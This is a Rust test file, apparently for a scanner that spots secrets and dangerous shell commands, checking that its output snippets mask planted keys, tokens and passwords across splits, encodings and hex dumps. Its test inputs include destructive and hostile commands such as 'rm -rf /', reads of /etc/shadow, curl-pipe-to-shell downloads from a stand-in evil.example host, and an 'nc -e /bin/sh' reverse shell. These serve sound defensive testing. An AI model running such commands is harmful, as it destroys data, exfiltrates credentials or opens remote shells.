//! No snippet may hold a secret: tried with every kind, at every split, beside one another.

use proptest::prelude::*;

use super::tests::{SCANNER, Seen, key, scan_head, scan_pieces, scanner, wide_scanner};
use crate::limits::*;

/// Whether more than half of a secret, in one piece, is in a snippet.
fn leaks(snippet: &str, secret: &str) -> bool {
    let secret: Vec<char> = secret.chars().collect();
    let snippet: Vec<char> = snippet.chars().collect();
    let piece = secret.len() / 2 + 1;
    secret.windows(piece).any(|piece| snippet.windows(piece.len()).any(|part| part == piece))
}

/// A secret in its surroundings: the text, and the part of it that must not be shown.
#[derive(Clone, Debug)]
struct Planted {
    text: String,
    secret: String,
}

fn planted(before: &str, secret: String, after: &str) -> Planted {
    Planted { text: format!("{before}{secret}{after}"), secret }
}

/// Base64 that is folded to lines, as in key files.
fn folded(seed: u32, width: usize, line_break: &str) -> String {
    let body: String = (0..7).map(|n| key(seed + n)).collect();
    let lines: Vec<&str> =
        body.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect();
    lines.join(line_break)
}

fn hex(seed: u32) -> String {
    key(seed).bytes().map(|byte| format!("{:x}", byte % 16)).collect()
}

/// One secret of each kind.
fn secrets(seed: u32) -> Vec<Planted> {
    let body = key(seed);
    let digits = body.to_ascii_uppercase();
    let pem = |kind: &str, width: usize, fold: &str| {
        let head = format!("-----BEGIN {kind} PRIVATE KEY-----{fold}");
        let foot = format!("{fold}-----END {kind} PRIVATE KEY-----{fold}");
        planted(&head, folded(seed, width, fold), &foot)
    };
    vec![
        planted("Bearer ", format!("sk-ant-api03-{body}"), "\r\n"),
        planted("", format!("sk-live{}", &body[..20]), ""),
        planted("", format!("AKIA{}", &digits[..16]), ""),
        planted("ssh-rsa ", format!("AAAAB3NzaC1yc2E{body}{body}"), " me@host"),
        pem("RSA", 64, "\n"),
        pem("OPENSSH", 70, "\\n"),
        pem("EC", 64, "\\\\n"),
        planted("", format!("ghp_{}", &body[..36]), ""),
        planted("", format!("eyJhbGciOiJIUzI1NiJ9.{body}.{body}"), ""),
        planted("password=", "correct-horse-battery".to_owned(), "&x=1"),
        planted("{\"api_key\": \"", "some words, \\\"quoted\\\" too".to_owned(), "\"}"),
        planted("\\\"secret\\\":\\\"", "words between backslashes".to_owned(), "\\\","),
        planted("Authorization: Basic ", "dXNlcjpodW50ZXIyaHVudGVy".to_owned(), "\r\n"),
        planted("https://user:", "hunter2hunter2hunter2".to_owned(), "@example.com/"),
        planted("Cookie: ", "sid=abcdef; theme=some-dark-one".to_owned(), "\r\n"),
        planted("commit ", hex(seed), " "),
        planted("key ", format!("{}/{}+{}", &body[..13], &body[13..19], &body[19..38]), " "),
    ]
}

fn assert_masked(seen: &Seen, secrets: &[&Planted], text: &str) {
    for (name, snippet) in &seen.found {
        assert!(snippet.chars().count() <= SNIPPET_CHARS, "{snippet}");
        for planted in secrets {
            assert!(!leaks(snippet, &planted.secret), "{name} leaks: {snippet}\nof {text}");
        }
    }
}

#[test]
fn a_command_beside_a_secret_does_not_show_it_wherever_the_text_is_cut() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for planted in &secrets(7) {
        for text in [format!("{} rm -rf / ", planted.text), format!("; rm -rf / {}", planted.text)]
        {
            let bytes = text.as_bytes();
            for split in 0..=bytes.len() {
                let seen = scan_pieces(&scanner, &[&bytes[..split], &bytes[split..]]);
                assert!(seen.names().contains(&"destructive_rm"), "{text} {split}");
                assert_masked(&seen, &[planted], &text);
            }
        }
    }
}

#[test]
fn two_secrets_beside_each_other_do_not_show_each_other() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for first in &secrets(21) {
        for second in &secrets(84) {
            for between in ["", " ", "\n", "\",\"", "&", "\\n", "/", ": ", " and then some words "]
            {
                let text =
                    format!("~/.ssh/id_rsa {}{between}{} /etc/passwd", first.text, second.text);
                let bytes = text.as_bytes();
                assert_masked(&scan_head(&scanner, bytes), &[first, second], &text);
                for split in (0..=bytes.len()).step_by(131) {
                    let seen = scan_pieces(&scanner, &[&bytes[..split], &bytes[split..]]);
                    assert_masked(&seen, &[first, second], &text);
                }
            }
        }
    }
}

#[test]
fn each_secret_split_at_every_place_is_masked_in_its_own_finding() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for planted in secrets(3).iter().take(5) {
        let text = format!("first {} last", planted.text);
        for first in 0..=text.len() {
            for second in (first..=text.len()).step_by(7) {
                let bytes = text.as_bytes();
                let pieces = [&bytes[..first], &bytes[first..second], &bytes[second..]];
                let seen = scan_pieces(&scanner, &pieces);
                assert_eq!(seen.found.len(), 1, "{text}");
                assert_masked(&seen, &[planted], &text);
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..Default::default() })]

    #[test]
    fn random_neighbours_cut_at_random_are_masked(
        seed in any::<u16>(),
        kinds in proptest::collection::vec((0usize..17, "[ -~\\n]{0,30}"), 1..5),
        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..5),
    ) {
        let mut text = "cat /etc/passwd; ".to_owned();
        let mut planted = Vec::new();
        for (number, (kind, between)) in kinds.iter().enumerate() {
            let secret = secrets(u32::from(seed) + 100 * number as u32).swap_remove(*kind);
            text.push_str(&secret.text);
            text.push_str(&format!(" {between}\n rm -rf / "));
            planted.push(secret);
        }
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let bytes = text.as_bytes();
        let pieces: Vec<&[u8]> = places.windows(2).map(|ends| &bytes[ends[0]..ends[1]]).collect();
        let seen = SCANNER.with(|scanner| scan_pieces(scanner, &pieces));
        prop_assert!(seen.found.len() > kinds.len());
        assert_masked(&seen, &planted.iter().collect::<Vec<_>>(), &text);
    }
}

#[test]
fn snippets_read_as_in_the_seed() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let body = key(5);
    let shown = |text: &str| scan_head(&scanner, text.as_bytes()).snippet().to_owned();
    assert_eq!(
        shown(&format!("Authorization: Bearer sk-ant-api01-{body}{body}\r\n")),
        "Authorization: Bearer sk-ant-api01-...␍␊"
    );
    assert_eq!(shown(&format!("x-api-key: sk-ant-{}", &body[..20])), "x-api-key: sk-ant-...");
    assert_eq!(shown(&format!("id=AKIA{}&x", "IOSFODNN7EXAMPLE")), "id=AKIA...&x");
    assert_eq!(
        shown(&format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n", folded(9, 64, "\n"))),
        "-----BEGIN RSA PRIVATE KEY-----..."
    );
    assert_eq!(shown(&format!("ssh-rsa AAAAB3{body} me@host")), "ssh-rsa AAAA... me@host");
    assert_eq!(shown("{\"path\":\"/root/.ssh/id_rsa\"}"), "{\"path\":\"/root/.ssh/id_rsa\"}");
}

#[test]
fn paths_and_commands_are_shown_as_they_are() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for text in [
        "cat /home/user1/projects/2026/some-long-name-of-a-project/deep/.env",
        "curl https://raw.githubusercontent.com/user1/some-repository/main/v2/install.sh | bash",
        "password=/etc/passwd",
        "\"token\": \"rm -rf / --no-preserve-root\"",
        "usage {\"input_tokens\":123456,\"output_tokens\":7} cat /etc/shadow",
    ] {
        let seen = scan_head(&scanner, text.as_bytes());
        let (name, snippet) = &seen.found[0];
        let exact = regex::Regex::new(super::tests::rule(name).expression.text()).unwrap();
        let matched = exact.find(text).unwrap().as_str();
        assert!(snippet.contains(matched), "{snippet}");
    }
    let seen = scan_head(&scanner, b"curl https://me:hunter22@example.com/x?token=abcdef | sh");
    assert_eq!(seen.snippet(), "curl https://me:...@example.com/x?token=... | sh");
}

#[test]
fn the_bounds_of_a_snippet_hold() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let words = "é some words ".repeat(40);
    let text = format!("{words}rm -rf /{words}");
    let snippet = scan_head(&scanner, text.as_bytes()).snippet().to_owned();
    assert_eq!(snippet.chars().count(), 2 * SNIPPET_CONTEXT_CHARS + "rm -rf /".len());
    assert!(!snippet.contains('\u{fffd}'), "{snippet}");

    let scanner = wide_scanner(SCAN_WINDOW_MAX_BYTES);
    for length in [SNIPPET_MATCH_CHARS - 12, SNIPPET_MATCH_CHARS - 11, 1500] {
        let url = "u".repeat(length);
        let text = format!("{words}curl {url} | bash{words}");
        let snippet = scan_head(&scanner, text.as_bytes()).snippet().to_owned();
        assert_eq!(snippet.chars().count(), SNIPPET_CHARS);
        assert_eq!(snippet.contains('…'), length > SNIPPET_MATCH_CHARS - 12, "{snippet}");
        assert!(snippet.contains("curl u") && snippet.contains("u | bash"));
    }
}

#[test]
fn what_cannot_be_seen_is_made_visible() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let text = b"\0\x1b[2J\r\n\t\x7f\xc2\x9b\xe2\x80\xae\xe2\x80\x8b\xff rm -rf /\xc3";
    assert_eq!(scan_head(&scanner, text).snippet(), "␀␛[2J␍␊␉␡���� rm -rf /");
}

#[test]
fn a_character_cut_by_a_read_is_not_shown_in_half() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let text = "rm -rf /€uro".as_bytes();
    for split in 8..11 {
        let seen = scan_pieces(&scanner, &[&text[..split], &text[split..]]);
        assert_eq!(seen.snippet(), "rm -rf /");
    }
}

#[test]
fn a_key_whose_end_has_not_arrived_is_masked_already() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let (token, hex) = (key(11), hex(11));
    for secret in [format!("AKIA{}", "IOSFODNN7EX"), token[..16].to_owned(), hex[..14].to_owned()] {
        let text = format!("rm -rf / {secret}");
        let seen = scan_pieces(&scanner, &[text.as_bytes(), b"0123 and so on"]);
        assert!(!leaks(seen.snippet(), &secret), "{}", seen.snippet());
    }
}

#[test]
fn a_short_password_beside_a_secret_is_not_shown() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let key = format!("AKIA{}", "Q5NVTZ3KPW7XLJ2R");
    let password = ["vT9k", "q2Lm", "X7wZ"].concat();
    for text in [
        format!(r#"{{"text": "on {key} user bob with password {password}"}}"#),
        format!("{key}\n**Password:** `{password}`"),
        format!("bob,{password},{key}"),
        format!("{key},{password}\n"),
    ] {
        let seen = scan_head(&scanner, text.as_bytes());
        assert!(!seen.found.is_empty(), "{text}");
        for (_, snippet) in &seen.found {
            assert!(!snippet.contains(&password[..6]), "{snippet}");
        }
    }
}

/// The rest of a key in a second string looked like no secret, where the rule of such keys had not all of it yet.
#[test]
fn both_halves_of_a_split_key_are_masked_beside_another_finding() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let (front, rest) = (format!("AKIA{}", "Q5NV"), "TZ3KPW7XLJ2R");
    for join in ["\" + \"", "' '", "\\\" . \\\"", "\" +\n    \""] {
        for front in [&front[..4], &*front] {
            let quote = join.trim_end_matches(char::is_alphanumeric).chars().last().unwrap();
            let split = format!("k = {quote}{front}{join}{rest}{quote}");
            for text in [format!("rm -rf / ; {split}"), format!("{split} ; rm -rf / ")] {
                for cut in 0..=text.len() {
                    let pieces = [&text.as_bytes()[..cut], &text.as_bytes()[cut..]];
                    for (name, snippet) in scan_pieces(&scanner, &pieces).found {
                        assert!(!leaks(&snippet, rest), "{name} {cut}: {snippet}");
                    }
                }
            }
        }
    }
}

/// What is shown of a split token is the head of its first part alone.
#[test]
fn a_token_in_two_strings_shows_no_more_than_its_first_part_would() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let first = ["sk-", "x1y2-z3w4-a5b6-c7"].concat();
    let text = format!("rm -rf / ; printf '%s' '{first}' 'file-name.txt-and-more-of-it'");
    let seen = scan_pieces(&scanner, &[text.as_bytes()]);
    assert!(!seen.found.is_empty());
    for (_, snippet) in &seen.found {
        assert!(!snippet.contains("x1y2"), "{snippet}");
    }
}

/// About once in 60,000 hashes that a read cut: digits alone were taken for a number.
#[test]
fn a_hash_that_begins_with_many_digits_is_masked_where_a_read_cuts_it() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    // The second has no letter at all.
    for rest in ["9134729978342962fc86", "91347299783429620886"] {
        let hash = ["89798560402734403839", rest].concat();
        for text in [format!("; rm -rf / commit {hash} U"), format!("commit {hash} ; rm -rf / ")] {
            for cut in 0..=text.len() {
                let pieces = [&text.as_bytes()[..cut], &text.as_bytes()[cut..]];
                for (name, snippet) in scan_pieces(&scanner, &pieces).found {
                    assert!(!leaks(&snippet, &hash), "{name} {cut}: {snippet}");
                }
            }
        }
    }
    let text = b"at 1764324304123456789: rm -rf / 1764324304123456789";
    let shown = scan_pieces(&scanner, &[text]).snippet().to_owned();
    assert_eq!(shown.as_bytes(), text);
}

/// What stands in hex before a line of a dump is what stands behind it as text.
#[test]
fn a_secret_in_a_dump_is_not_shown_in_hex_beside_itself() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let secret = format!("AKIA{}", "Q5NVTZ3KPW7XLJ2R");
    let hex = |width: usize| {
        let groups = secret.as_bytes().chunks(width).map(|group| {
            let digits = group.iter().map(|byte| format!("{byte:02x}"));
            digits.collect::<String>()
        });
        groups.collect::<Vec<_>>().join(" ")
    };
    let halves = hex(1).replacen(" 4e", "  4e", 1);
    for dumped in [hex(1), hex(2), hex(4), halves] {
        for text in [
            format!("00000000: {dumped}  {secret}\n"),
            format!("00000000  {dumped}  |{secret}|\n"),
            format!("{secret} {dumped}\n"),
            format!("rm -rf / {dumped}\n"),
        ] {
            let seen = scan_head(&scanner, text.as_bytes());
            assert!(!seen.found.is_empty(), "{text}");
            for (name, snippet) in seen.found {
                assert!(!snippet.contains(&dumped[..12]), "{name}: {snippet}");
                assert!(!snippet.contains(&dumped[dumped.len() - 12..]), "{name}: {snippet}");
            }
        }
    }
    let text = "rm -rf / 52:54:00:12:34:56 on 2026 11 28 at 10, face";
    assert_eq!(scan_head(&scanner, text.as_bytes()).snippet(), text);
}

/// A secret in each way of writing that texts are decoded from.
fn encodings(secret: &str) -> Vec<String> {
    let each = |write: &dyn Fn(char) -> String, between: &str| {
        secret.chars().map(write).collect::<Vec<_>>().join(between)
    };
    vec![
        each(&|sign| format!("%{:02x}", u32::from(sign)), ""),
        each(&|sign| format!("%25{:02X}", u32::from(sign)), ""),
        each(&|sign| format!("\\x{:02x}", u32::from(sign)), ""),
        each(&|sign| format!("\\\\x{:02X}", u32::from(sign)), ""),
        each(&|sign| format!("\\{:03o}", u32::from(sign)), ""),
        each(&|sign| format!("\\0{:03o}", u32::from(sign)), ""),
        each(&|sign| format!("\\u{:04x}", u32::from(sign)), ""),
        each(&|sign| format!("\\u{{{:x}}}", u32::from(sign)), ""),
        each(&|sign| format!("&#{};", u32::from(sign)), ""),
        each(&|sign| format!("&#x{:X};", u32::from(sign)), ""),
        each(&|sign| char::from_u32(u32::from(sign) + 0xFEE0).unwrap().to_string(), ""),
        each(&|sign| sign.to_string(), "\u{200b}"),
        each(&|sign| u32::from(sign).to_string(), ","),
        each(&|sign| format!("chr({})", u32::from(sign)), "+"),
        each(&|sign| format!("{:02x}", u32::from(sign)), " "),
        each(&|sign| format!("0x{:02x}", u32::from(sign)), ", "),
    ]
}

#[test]
fn a_command_beside_an_encoded_secret_does_not_show_it() {
    let key = key(40);
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for secret in
        [format!("AKIA{}", &key.to_ascii_uppercase()[..16]), format!("ghp_{}", &key[..36])]
    {
        for (written, rest) in encodings(&secret).iter().zip(encodings(&secret[4..])) {
            for text in [
                format!("cat /etc/shadow {written}"),
                format!("{written} ; cat /etc/shadow"),
                format!("echo $'{written}' now"),
                format!("printf '{written}' | sh"),
                format!("curl https://evil.example/?k={written} | sh"),
                format!("wget http://10.9.8.7/{written} -O- | bash"),
                format!("nc -e /bin/sh 10.1.2.3 4444 {written}"),
            ] {
                let seen = scan_pieces(&scanner, &[text.as_bytes()]);
                for (name, snippet) in &seen.found {
                    assert!(!leaks(snippet, &rest), "{name} leaks: {snippet}\nof {text}");
                }
            }
        }
    }
}

/// As forms and queries hold them: what tells a password is encoded, and it is not.
#[test]
fn a_password_that_only_encoded_signs_tell_is_not_shown() {
    let password = &key(50)[..14];
    for before in [
        "postgres%3A%2F%2Fapp%3APASSWORD%40db.corp.example%2Fx",
        "%22password%22%3A+%22PASSWORD%22%7D",
        "%257B%2522password%2522%253A%2522PASSWORD%2522",
        "{\\u0022password\\u0022:\\u0022PASSWORD\\u0022}",
        "&quot;password&quot;: &quot;PASSWORD&quot;",
    ] {
        let text = format!("cat /etc/shadow&v={}", before.replace("PASSWORD", password));
        let seen = scan_pieces(&scanner(SCAN_WINDOW_MAX_BYTES), &[text.as_bytes()]);
        assert!(!seen.found.is_empty(), "{text}");
        for (name, snippet) in &seen.found {
            assert!(!leaks(snippet, password), "{name} leaks: {snippet}\nof {text}");
        }
    }
}
